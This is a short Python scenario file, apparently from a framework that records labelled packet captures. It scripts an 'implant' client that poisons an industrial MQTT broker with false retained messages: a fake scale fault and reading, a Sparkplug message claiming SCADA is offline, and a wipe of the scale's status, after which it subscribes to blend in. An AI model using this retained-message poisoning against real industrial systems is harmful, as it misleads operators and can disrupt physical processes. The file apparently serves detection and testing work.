"""A device in the cell leaves false retained messages behind, which every later subscriber gets first."""

from __future__ import annotations

from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.telemetry import SCALE, make_client, make_scenario, run_client


async def attack(stage: Stage) -> None:
    """Retain false state and data, say that SCADA is gone, wipe the scale's state; then look as others do."""
    await stage.until(40)
    async with run_client(make_client("sensor-upd")) as client:
        stage.mark()
        client.publish(f"{SCALE}/status", b'{"state":"fault","code":17}', 1, retain=True)
        client.publish(f"{SCALE}/data", b'{"n":1,"gross":0.0,"unit":"kg","bag":"88.118.7/BAG000000"}', 1, retain=True)
        await stage.wait(10)
        stage.mark()
        client.publish("spBv1.0/STATE/scada", b'{"online":false,"timestamp":0}', 1, retain=True)
        await stage.wait(10)
        stage.mark()
        client.publish(f"{SCALE}/status", b"", 1, retain=True)
        await stage.wait(10)
        client.subscribe(f"{SCALE}/#", 1)
        await stage.wait(10)


SCENARIO = make_scenario("mqtt_retained_poisoning.pcap.gz", 45, 120, {"implant": attack}, strangers=("implant",))
